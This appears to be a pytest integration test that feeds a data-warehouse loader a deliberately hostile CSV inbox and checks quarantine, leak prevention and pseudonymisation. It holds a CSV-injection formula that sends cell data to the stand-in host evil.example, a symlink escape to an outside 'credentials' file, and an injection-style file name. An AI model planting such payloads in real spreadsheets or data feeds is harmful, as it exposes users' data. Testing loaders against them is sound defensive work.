"""One hostile inbox with every defect of the adversarial trial at once, through one real ``bdw run``:
the good data still publishes, each bad file or row is named in the summary, no byte of a file
outside the inbox reaches the warehouse, the report, the logs or quarantine, and no personal value
is readable in the analysts' file.

The defects, one class each (the focused tests of each class are in test_hostile_files.py):
1. a quoted payments CSV cut mid-line, read together with four files of its header; an unquoted
   costs file and an accounts file cut inside their last field (no final line break);
2. headers named like the loader's own columns (``_row_number``, ``rowid``, ``account_id__t``,
   ``amount__t``);
3. a link to a file outside the inbox, a linked source folder;
4. a 6,000-column file; a 5 MB field;
5. a finance file with one bad amount, a contracts file with a bad date (their contracts are held
   back, the rest publishes);
6. formulas in cells of a rejected row;
7. decision makers' names, e-mails and phones, reps' names;
8. a misspelled source folder, a nested folder, a file at the root, odd file names, a "new" contract
   whose lines sum to a negative amount.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from conftest import CONTRACT_HEADER, contract_row, query, write_csv

PAY_HEADER = ["payment_id", "contract_id", "received_date", "amount", "currency"]
LINE_HEADER = ["contract_id", "line_no", "product_family", "amount", "is_recurring"]
ACC_HEADER = ["account_id", "account_name", "region", "created_at", "decision_maker", "contact_email",
              "contact_phone"]
COST_HEADER = ["cost_id", "contract_id", "cost_date", "cost_type", "amount", "currency"]
SECRET = "AKIA_OUTSIDE_SECRET_7f3e"  # the first line of a file outside the inbox
PERSONAL = ["Zhang San", "zhang.san@acme.example", "+86 138 0000 1111", "Jane Roe", "jane.roe@globex.example",
            "+44 20 7946 0000", "Li Lei", "Han Meimei", "Wang Wu"]


def build_inbox(root: Path) -> Path:
    """The hostile inbox under ``root/inbox`` (and the outside files it links to under ``root/outside``)."""
    inbox = root / "inbox"
    outside = root / "outside"
    outside.mkdir(parents=True)
    (outside / "credentials.csv").write_text(f"{SECRET},C1,2025-04-06,1,CNY\nsecond line\n")
    (outside / "partners").mkdir()
    (outside / "partners" / "2025-04-01_partners.csv").write_text(f"partner_id,partner_name\n{SECRET},x\n")

    # accounts: good (with personal data), internal names, cut without a final line break, 6,000 columns,
    # formulas, an odd file name
    write_csv(inbox / "accounts/2025-03-31_accounts.csv", ACC_HEADER, [
        ["A1", "Acme", "CN", "2024-05-01", "Zhang San", "zhang.san@acme.example", "+86 138 0000 1111"],
        ["A2", "Globex", "EU", "2024-06-01", "Jane Roe", "jane.roe@globex.example", "+44 20 7946 0000"],
    ])
    write_csv(inbox / "accounts/2025-04-01_accounts.csv",
              ["account_id", "account_name", "region", "created_at", "_row_number", "rowid", "account_id__t"],
              [["A3", "Initech", "NA", "2024-07-01", "999", "888", "NOT-A3"]])
    (inbox / "accounts/2025-04-02_accounts.csv").write_text(
        "account_id,account_name,region,created_at\nA4,Umbrella,APAC,2024-08-01\nA5,Hooli,CN,2024-0")
    wide = ["account_id", "account_name", "region", "created_at", *(f"x{i}" for i in range(6000))]
    write_csv(inbox / "accounts/2025-04-03_accounts.csv", wide, [["A9", "Wide", "CN", "2024-09-01", *["v"] * 6000]])
    write_csv(inbox / "accounts/2025-04-04_accounts.csv", ["account_id", "account_name", "region", "created_at"], [
        ["A6", "@SUM(1+1)", '=HYPERLINK("http://evil.example/?q="&A1,"open me")', "2024-10-01"],
        ["A7", "Stark", "EU", "2024-10-02"],
    ])
    odd_name = "accounts/2025-04-05 客户 (final) ;'--.csv"
    write_csv(inbox / odd_name, ACC_HEADER[:4], [["A8", "Wayne", "NA", "2024-11-01"]])
    # activities: a 5 MB field
    write_csv(inbox / "activities/2025-04-05_activities.csv",
              ["activity_id", "account_id", "owner_id", "activity_date", "activity_type", "notes"],
              [["X1", "A1", "R1", "2025-04-01", "visit", "x" * (5 << 20)]])
    write_csv(inbox / "activities/2025-04-06_activities.csv",
              ["activity_id", "account_id", "owner_id", "activity_date", "activity_type"],
              [["X2", "A1", "R1", "2025-04-02", "call"]])
    # contracts: C1..C6 good (C5 a new contract with a negative line); C4 again with an impossible date
    write_csv(inbox / "contracts/2025-03-31_contracts.csv", CONTRACT_HEADER, [
        contract_row("C1"), contract_row("C2", currency="USD", account="A2"), contract_row("C3"),
        contract_row("C4"), contract_row("C5"), contract_row("C6")])
    write_csv(inbox / "contracts/2025-04-10_contracts.csv", CONTRACT_HEADER, [contract_row("C4", signed="2025-02-30")])
    # contract lines: C3's only file has one bad amount; a column amount__t beside the real amount
    write_csv(inbox / "contract_lines/2025-03-31_contract_lines.csv", LINE_HEADER, [
        ["C1", "1", "saas", "1,000,000", ""], ["C1", "2", "service", "200000", ""],
        ["C2", "1", "license", "100000", ""],
        ["C4", "1", "license", "5000", ""], ["C5", "1", "service", "-5000", ""], ["C6", "1", "service", "7000", ""]])
    write_csv(inbox / "contract_lines/2025-04-11_contract_lines.csv", LINE_HEADER, [
        ["C3", "1", "saas", "30000", ""], ["C3", "2", "service", "12,34x", ""]])
    write_csv(inbox / "contract_lines/2025-04-12_contract_lines.csv", [*LINE_HEADER, "amount__t"],
              [["C1", "3", "support", "100", "", "1000000"]])
    # payments: five files of one header (a first load reads them together); the third is cut inside a quote
    for day in range(1, 6):
        path = inbox / f"payments/2025-04-0{day}_payments.csv"
        if day == 3:
            path.write_text("payment_id,contract_id,received_date,amount,currency\n"
                            'P3,C2,2025-04-03,"1,000.00",CNY\nP3b,C2,2025-04-03,"2,0')
        else:
            write_csv(path, PAY_HEADER, [[f"P{day}", "C1", f"2025-04-0{day}", "1,000.00", "CNY"]])
    os.symlink(outside / "credentials.csv", inbox / "payments/2025-04-06_payments.csv")
    write_csv(inbox / "payments/old/2025-04-07_payments.csv", PAY_HEADER, [["P7", "C1", "2025-04-07", "1", "CNY"]])
    # costs: an unquoted file cut inside its last field
    (inbox / "costs").mkdir()
    (inbox / "costs/2025-04-01_costs.csv").write_text(
        "cost_id,contract_id,cost_date,cost_type,amount,currency\nK1,C6,2025-04-01,travel,500,CNY\n"
        "K2,C6,2025-04-01,travel,1200,CN")
    write_csv(inbox / "fx_rates/2025-03-31_fx_rates.csv", ["month", "currency", "rate_to_cny"],
              [["2025-03", "USD", "7.2"], ["2025-04", "USD", "7.25"]])
    write_csv(inbox / "reps/2025-03-31_reps.csv", ["rep_id", "rep_name", "team", "hire_date"],
              [["R1", "Li Lei", "direct", "2020-01-01"], ["R2", "Han Meimei", "direct", "2021-01-01"],
               ["R3", "Wang Wu", "marketing", "2022-01-01"]])  # an unknown team: the row (and its name) rejected
    # misplaced input
    write_csv(inbox / "paymnets/2025-04-08_payments.csv", PAY_HEADER, [["P8", "C1", "2025-04-08", "1", "CNY"]])
    (inbox / "notes.csv").write_text("a,b\n1,2\n")
    os.symlink(outside / "partners", inbox / "partners")
    return inbox


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile inbox through ``bdw run`` in a process of its own (its stdout and stderr as a user sees them)."""
    root = tmp_path_factory.mktemp("hostile")
    inbox = build_inbox(root)
    done = subprocess.run([sys.executable, "-m", "bdw.cli", "run", "--inbox", str(inbox), "--warehouse",
                           str(root / "wh.duckdb"), "--workdir", str(root / "work")],
                          capture_output=True, text=True, timeout=900)
    return root, done


def test_the_good_data_publishes(hostile):
    root, done = hostile
    assert done.returncode == 0, done.stdout + done.stderr
    wh = root / "wh.duckdb"
    assert f"Published {wh}" in done.stdout
    assert query(wh, "SELECT list(account_id ORDER BY account_id) FROM staging.stg_crm__accounts") == [
        (["A1", "A2", "A3", "A4", "A7", "A8"],)]
    # a header named like the loader's columns is an extra column: the real values are loaded
    assert query(wh, "SELECT account_id, _row_number, row_number, rowid_2, account_id__t FROM raw.accounts "
                     "WHERE account_id = 'A3'") == [("A3", 2, "999", "888", "NOT-A3")]
    assert query(wh, "SELECT amount, amount__t FROM raw.contract_lines WHERE contract_id = 'C1' AND line_no = 3"
                 ) == [(100, "1000000")]
    # C1 and C5 are published; C2, C3, C4 and C6 are held back by their quarantined files
    assert query(wh, "SELECT list(contract_id ORDER BY contract_id) FROM marts.fct_contracts") == [(["C1", "C5"],)]
    assert query(wh, "SELECT list(payment_id ORDER BY payment_id) FROM staging.stg_finance__payments") == [
        (["P1", "P2", "P4", "P5"],)]


def test_held_back_contracts_are_reported_and_the_blocking_checks_pass(hostile):
    root, done = hostile
    wh = root / "wh.duckdb"
    held = query(wh, "SELECT record_key, source_file, source_row FROM dq.reference_issues "
                     "WHERE rule = 'held_back_by_quarantine' ORDER BY record_key")
    assert held == [("C2", "payments/2025-04-03_payments.csv", None),
                    ("C3", "contract_lines/2025-04-11_contract_lines.csv", 2),
                    ("C4", "contracts/2025-04-10_contracts.csv", 2),
                    ("C6", "costs/2025-04-01_costs.csv", 2)]
    assert ("contracts/2025-04-10_contracts.csv, row 2, column contract_id: this file is in quarantine and names "
            "contract C4: the contract and everything booked to it are held back (1 contract, 1 line loaded) "
            "(left out of every KPI until the file is fixed)") in done.stdout
    # C4's loaded line is held back, not reported as an unknown contract with a missing fx rate
    assert "missing fx rate" not in done.stdout and "\n  - None" not in done.stdout
    assert query(wh, "SELECT count(*) FROM dq.validation_results WHERE severity = 'error' AND NOT success") == [(0,)]


def test_each_bad_file_and_row_is_named_in_the_summary(hostile):
    _, done = hostile
    out = done.stdout
    for line in [
        "payments/2025-04-03_payments.csv, whole file: file quarantined: cannot be read as CSV: line 3 has a quote "
        "that is never closed",
        "costs/2025-04-01_costs.csv, row 3: the file does not end with a line break, so this last row may be cut short",
        "accounts/2025-04-02_accounts.csv, row 3: the file does not end with a line break",
        "accounts/2025-04-03_accounts.csv, whole file: file quarantined: has 6,004 columns, more than the limit "
        "of 500 (max_columns, limits in config/bdw.yml)",
        "accounts/2025-04-04_accounts.csv, row 2, column region: not one of the allowed values",
        "activities/2025-04-05_activities.csv, whole file: file quarantined: cannot be read as CSV: line 2 is longer "
        "than 1,048,576 bytes",
        "contract_lines/2025-04-11_contract_lines.csv, row 3, column amount: not a valid amount",
        "contracts/2025-04-10_contracts.csv, row 2, column signed_date: not a valid date",
        "reps/2025-03-31_reps.csv, row 4, column team: not one of the allowed values",
        "payments/2025-04-06_payments.csv: a link: links are not followed",
        "partners/: a link: links are not followed",
        "payments/old/: a folder inside a source folder",
        "paymnets/: not a source folder: not read (did you mean payments/?)",
        "notes.csv: a file outside every source folder",
        "new_contract_value_positive",
    ]:
        assert line in out, line
    assert "Traceback" not in done.stderr and "Traceback" not in out
    assert done.stderr == ""


def _files_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file() and not p.is_symlink()]


def test_no_byte_of_a_file_outside_the_inbox_is_anywhere(hostile):
    root, done = hostile
    secret = SECRET.encode()
    assert SECRET not in done.stdout + done.stderr
    written = [p for p in _files_under(root) if p.parts[len(root.parts)] not in ("inbox", "outside")]
    assert any(p.name == "wh.duckdb" for p in written) and any(p.name.endswith("_report.html") for p in written)
    assert any("logs" in p.parts for p in written) and any("quarantine" in p.parts for p in written)
    assert any("data_docs" in p.parts for p in written) and any(p.name == "alerts.jsonl" for p in written)
    assert [p for p in written if secret in p.read_bytes()] == []
    assert not (root / "work/quarantine/payments/2025-04-06_payments.csv").exists()


def test_no_personal_value_is_readable_in_the_published_file(hostile):
    """Every column of every table and view of every schema, and every byte of the file."""
    root, _ = hostile
    wh = root / "wh.duckdb"
    con = duckdb.connect(str(wh), read_only=True)
    try:
        relations = con.execute("SELECT table_schema, table_name FROM information_schema.tables "
                                "WHERE table_catalog = current_database() ORDER BY 1, 2").fetchall()
        schemas = {s for s, _ in relations}
        assert {"raw", "staging", "intermediate", "marts", "dq", "seeds"} <= schemas
        found = []
        for schema, table in relations:
            columns = [c for (c,) in con.execute(
                "SELECT column_name FROM information_schema.columns WHERE table_schema = ? AND table_name = ?",
                [schema, table]).fetchall()]
            for column in columns:
                hits = con.execute(f'SELECT count(*) FROM "{schema}"."{table}" WHERE list_has_any([CAST("{column}" '
                                   f'AS VARCHAR)], ?) OR contains(CAST("{column}" AS VARCHAR), ?)',
                                   [PERSONAL, "@acme.example"]).fetchone()[0]
                if hits:
                    found.append(f"{schema}.{table}.{column}")
        assert found == []
        # the personal columns hold pseudonyms: the same person has the same one in raw and staging
        raw = con.execute("SELECT decision_maker FROM raw.accounts WHERE account_id = 'A1'").fetchone()[0]
        stg = con.execute("SELECT decision_maker FROM staging.stg_crm__accounts WHERE account_id = 'A1'").fetchone()[0]
        assert raw == stg and raw.startswith("pn_") and len(raw) == 19
        assert con.execute("SELECT count(DISTINCT rep_name) FROM staging.stg_hr__reps").fetchone()[0] == 2
    finally:
        con.close()
    data = wh.read_bytes()
    assert [v for v in PERSONAL if v.encode() in data] == []
    # the real values are in the data team's vault, under the same pseudonym
    vault = duckdb.connect(str(root / "work/personal.duckdb"), read_only=True)
    try:
        assert vault.execute("SELECT value FROM pseudonyms WHERE pseudonym = ?", [raw]).fetchone() == ("Zhang San",)
    finally:
        vault.close()


def test_rejected_rows_are_written_formula_safe(hostile):
    root, _ = hostile
    with (root / "work/quarantine/accounts/2025-04-04_accounts.rejected.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["account_id"], r["account_name"], r["region"][:11], r["_row"]) for r in rows] == [
        ("A6", "'@SUM(1+1)", "'=HYPERLINK", "2")]
    assert "rowid" not in rows[0]  # the file's own headers, nothing of the loader's
